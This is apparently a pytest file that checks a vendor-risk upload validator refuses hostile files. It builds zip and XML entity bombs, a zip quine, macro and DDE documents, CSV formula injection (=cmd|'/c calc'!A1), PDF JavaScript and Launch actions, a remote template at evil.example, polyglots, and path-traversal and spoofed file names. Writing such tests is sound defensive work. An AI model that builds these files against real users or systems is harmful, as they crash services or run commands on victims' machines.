"""Files made to harm whoever opens them: none is taken, whatever they pretend to be."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest

from tests.core.test_evidence_files import JPEG, PDF, PNG, office
from vendorrisk.evidence import UnacceptableFile, examine

TYPES = b"<Types/>"
WORD, SHEET = "word/document.xml", "xl/workbook.xml"


def archive(parts: dict[str, bytes], *, stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    how = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", how) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return buffer.getvalue()


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"


def packed(body: bytes) -> bytes:
    """A PDF whose objects lie in a packed stream, as in those of today's programs."""
    small = zlib.compress(body)
    return pdf(
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(small)
        + small
        + b"\nendstream"
    )


def nested(levels: int) -> bytes:
    inside = archive({"word/document.xml": b"<x/>"})
    for _ in range(levels):
        inside = office(WORD, **{"word/embeddings/inner.docx": inside})
    return inside


def claiming(size: int) -> bytes:
    """A document whose list of parts claims another size than a part has."""
    made = office(WORD, **{"word/a.xml": b"<a>" + b"x" * 5000 + b"</a>"})
    at = made.rindex(b"PK\x01\x02")
    return made[: at + 24] + struct.pack("<I", size) + made[at + 28 :]


def twice(name: str) -> bytes:
    buffer = io.BytesIO(office(WORD))
    with zipfile.ZipFile(buffer, "a") as made, pytest.warns(UserWarning, match="Duplicate"):
        made.writestr(name, b"<another/>")
    return buffer.getvalue()


def quine() -> bytes:
    """Parts that overlap: a small file that unpacks to as much as one likes."""
    kernel = zlib.compress(b"\0" * 10_000_000, 9)[2:-4]
    crc = zlib.crc32(b"\0" * 10_000_000)
    name = b"word/media/a"
    local = struct.pack(
        "<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(kernel), 10_000_000, len(name), 0
    )
    data = local + name + kernel
    central = b""
    for number in range(100):
        entry = b"word/media/%02d" % number
        central += struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(kernel), 10_000_000,
            len(entry), 0, 0, 0, 0, 0, 0,
        ) + entry  # fmt: skip
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 100, 100, len(central), len(data), 0)
    return data + central + end


DDE_FIELD = (
    b'<w:document xmlns:w="w"><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
    b"</w:instrText></w:document>"
)
JS = b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    # bombs
    "a part that unpacks a thousandfold": (
        "bomb.docx", lambda: office(WORD, **{"word/media/a": b"\0" * 5_000_000})),
    "a part of text that unpacks a thousandfold": (
        "bomb.xlsx", lambda: office(SHEET, **{"xl/sharedStrings.xml": b" " * 5_000_000})),
    "parts that overlap": ("quine.docx", quine),
    "a size of 4 GB claimed": ("claim.docx", lambda: claiming(0xFFFF_FFF0)),
    "a size of 400 MB claimed": ("claim.docx", lambda: claiming(400 * 1024**2)),
    "20,000 parts": (
        "many.docx", lambda: archive({f"word/{n}.xml": b"" for n in range(20_000)}, stored=True)),
    "a document in a document in a document": ("nested.docx", lambda: nested(3)),
    "ten archives inside each other": ("nested.docx", lambda: nested(10)),
    "a bomb inside a document": (
        "inner.docx",
        lambda: office(WORD, **{"word/embeddings/b.xlsx": office(
            SHEET, **{"xl/media/a": b"\0" * 5_000_000})})),
    "entities that multiply": (
        "laugh.docx", lambda: archive({
            "[Content_Types].xml": TYPES,
            WORD: b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'})),
    "entities in UTF-16": (
        "laugh.docx", lambda: archive({
            "[Content_Types].xml": TYPES,
            WORD: '<!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>'.encode("utf-16")})),
    "a PDF whose packed objects unpack to 60 MB": ("bomb.pdf", lambda: packed(b" " * 60_000_000)),
    # programs in office files
    "macros in a .docm": (
        "letter.docm", lambda: office(WORD, **{"word/vbaProject.bin": b"x"})),
    "macros in a .docm named .docx": (
        "letter.docx", lambda: office(WORD, **{"word/vbaProject.bin": b"x"})),
    "macros under another name": (
        "letter.docx", lambda: office(WORD, **{
            "word/_rels/document.xml.rels":
            b'<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/'
            b'vbaProject" ContentType="application/vnd.ms-office.vbaProject" Target="x.bin"/>'})),
    "a document whose type says macros": (
        "letter.docx", lambda: archive({
            "[Content_Types].xml": b'<Override ContentType="application/vnd.ms-word.document.'
            b'macroEnabled.main+xml"/>',
            WORD: b"<x/>"})),
    "old macro sheets": (
        "book.xlsx", lambda: office(SHEET, **{"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "an .xlsm with DDE": (
        "book.xlsm", lambda: office(SHEET, **{
            "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/>'})),
    "an .xlsx with DDE": (
        "book.xlsx", lambda: office(SHEET, **{
            "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/>'})),
    "a field with DDE": (
        "letter.docx", lambda: archive({"[Content_Types].xml": TYPES, WORD: DDE_FIELD})),
    "a template from elsewhere": (
        "letter.docx", lambda: office(WORD, **{
            "word/_rels/settings.xml.rels":
            b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
            b' TargetMode="External"/>'})),
    "ActiveX": ("letter.docx", lambda: office(WORD, **{"word/activeX/activeX1.xml": b"<x/>"})),
    "a packed object": (
        "letter.docx", lambda: office(WORD, **{"word/embeddings/oleObject1.bin": b"MZ"})),
    "a script inside": (
        "letter.docx", lambda: office(WORD, **{"word/embeddings/run.vbs": b"x"})),
    "macros in a workbook inside a document": (
        "letter.docx", lambda: office(WORD, **{"word/embeddings/b.xlsx": office(
            SHEET, **{"xl/vbaProject.bin": b"x"})})),
    "an old Word file": ("old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "an old Word file named .docx": (
        "old.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "a table with DDE": ("t.csv", lambda: b"name,note\nA,\"=cmd|'/c calc'!A1\"\n"),
    "a table with DDE behind a sign": ("t.csv", lambda: b"a\n-2+3+cmd|' /C calc'!D2\n"),
    "a table with DDE in UTF-16": ("t.csv", lambda: "a;=cmd|'/c calc'!A1".encode("utf-16")),
    # names of parts
    "a part above its folder": ("slip.docx", lambda: office(WORD, **{"../../evil.xml": b"<x/>"})),
    "a part at the root": ("slip.docx", lambda: office(WORD, **{"/etc/evil.xml": b"<x/>"})),
    "a part on a drive": ("slip.docx", lambda: office(WORD, **{"C:\\evil.xml": b"<x/>"})),
    "a part above its folder, backwards": (
        "slip.docx", lambda: office(WORD, **{"..\\..\\evil.xml": b"<x/>"})),
    "two parts of one name": ("twice.docx", lambda: twice(WORD)),
    # PDFs
    "a PDF with JavaScript": ("a.pdf", lambda: pdf(JS)),
    "a PDF with JavaScript in other letters": (
        "a.pdf", lambda: pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>")),
    "a PDF with packed JavaScript": ("a.pdf", lambda: packed(b"2 0 " + JS)),
    "a PDF that launches a program": ("a.pdf", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>")),
    "a PDF with a file inside": ("a.pdf", lambda: pdf(b"<</Type/EmbeddedFile/Length 0>>")),
    "a PDF with rich media": ("a.pdf", lambda: pdf(b"<</Subtype/RichMedia>>")),
    "JavaScript behind a stream without end": (
        "a.pdf", lambda: pdf(b"<</Length 5>>stream\nxxxxx" + JS)),
    # one file, two meanings
    "a PDF that is an archive, too": ("p.pdf", lambda: PDF + office(WORD)),
    "an image that is an archive, too": ("p.png", lambda: PNG + archive({"evil.exe": b"MZ"})),
    "a photo that is an archive, too": ("p.jpg", lambda: JPEG + archive({"a.js": b"alert(1)"})),
    "an image that is a PDF, too": ("p.png", lambda: PNG + PDF),
    "an image that is a page, too": ("p.png", lambda: PNG + b"<script>alert(1)</script>"),
    "a photo that is a page, too": ("p.jpg", lambda: JPEG + b"<HTML><body onload=alert(1)>"),
    "a document that is a PDF, too": (
        "p.docx", lambda: archive({"%PDF-1.7": b"", "[Content_Types].xml": TYPES, WORD: b"<x/>"},
                                  stored=True)),
    "a program with a PDF behind": ("p.pdf", lambda: b"MZ\x90\0" + PDF),
    # other kinds, and names that lie
    "a picture with a script": ("p.svg", lambda: b"<svg onload='alert(1)'/>"),
    "a picture with a script named .png": ("p.png", lambda: b"<svg onload='alert(1)'/>"),
    "a page": ("p.html", lambda: b"<script>alert(1)</script>"),
    "a page named .pdf": ("p.pdf", lambda: b"<script>alert(1)</script>"),
    "a program": ("p.exe", lambda: b"MZ\x90\0\3\0\0\0" + b"\0" * 100),
    "a program named .pdf": ("p.pdf", lambda: b"MZ\x90\0\3\0\0\0" + b"\0" * 100),
    "a program of Linux": ("p.txt", lambda: b"\x7fELF\2\1\1" + b"\0" * 100),
    "a PDF with a second ending": ("invoice.pdf.exe", lambda: PDF),
    "a PDF named .docx": ("p.docx", lambda: PDF),
    "a link of Windows": ("p.lnk", lambda: b"L\0\0\0\1\x14\2\0"),
    "RTF": ("p.rtf", lambda: b"{\\rtf1{\\object\\objupdate}}"),
    "a batch file": ("p.bat", lambda: b"@echo off\r\ncalc\r\n"),
    "a 7z archive": ("p.7z", lambda: b"7z\xbc\xaf\x27\x1c"),
    "a gzip archive": ("p.gz", lambda: b"\x1f\x8b\x08\0\0\0\0\0"),
    "an archive of documents": ("p.zip", lambda: archive({"a.docx": office(WORD)})),
    "an archive named .docx": ("p.docx", lambda: archive({"evil.exe": b"MZ"})),
    "an archive cut off": ("p.docx", lambda: office(WORD)[:80]),
    "an archive with a password": (
        "p.docx", lambda: office(WORD).replace(b"PK\x01\x02\x14\x03\x14\0\0\0",
                                               b"PK\x01\x02\x14\x03\x14\0\1\0")),
    "nothing": ("p.pdf", lambda: b""),
    "nothing named .txt": ("p.txt", lambda: b""),
    "JSON without end": ("p.json", lambda: b"[" * 100_000),
    "text with a hole": ("p.txt", lambda: b"ok\0<script>"),
    "text in no encoding": ("p.txt", lambda: b"\xc3\x28"),
    # names
    "a name with folders": ("../../etc/passwd.pdf", lambda: PDF),
    "a name with Windows' folders": ("..\\..\\boot.pdf", lambda: PDF),
    "a name on a drive": ("C:\\policy.pdf", lambda: PDF),
    "a name with a hole": ("a.pdf\0.exe", lambda: PDF),
    "a name with a line break": ("a\r\nSet-Cookie: x.pdf", lambda: PDF),
    "a name that turns around": ("a\u202efdp.exe", lambda: PDF),
    "a name with what nobody sees": ("pol\u200bicy.pdf", lambda: PDF),
    "a name of two dots": ("..", lambda: PDF),
    "a name without end": ("x" * 5000 + ".pdf", lambda: PDF),
    "no name": ("", lambda: PDF),
}  # fmt: skip
"""What it is to the name and the bytes; each is refused."""


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_in_plain_words(what: str) -> None:
    name, make = HOSTILE[what]
    with pytest.raises(UnacceptableFile) as refused:
        examine(name, make())
    assert refused.value.sentence.endswith(".")
    assert refused.value.fix.endswith(".")


def test_every_hostile_file_is_small() -> None:
    assert len(HOSTILE) >= 80
    for name, make in HOSTILE.values():
        assert len(make()) < 3_000_000, name


HARMLESS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a document with a workbook behind a chart": (
        "a.docx", lambda: office(WORD, **{"word/embeddings/chart.xlsx": office(SHEET)})),
    "a document with a long, dull part": (
        "a.docx", lambda: office(WORD, **{"word/styles.xml": b"<a/>" * 100_000})),
    "a PDF that opens on its second page": (
        "a.pdf", lambda: pdf(b"<</OpenAction[2 0 R/Fit]/Type/Catalog>>")),
    "a PDF with chance bytes in an image": (
        "a.pdf", lambda: pdf(b"<</Length 30>>stream\nxx/JS (x)/JavaScript \nendstream")),
    "a table with a negative number and a bar": ("a.csv", lambda: b"a,b\n-5,x|y\n=SUM(A1),2\n"),
    "a log with a page in it": ("a.log", lambda: b"GET / <script> blocked\n"),
}  # fmt: skip


@pytest.mark.parametrize("what", HARMLESS)
def test_what_only_looks_odd_is_taken(what: str) -> None:
    name, make = HARMLESS[what]
    assert examine(name, make()).file_name == name
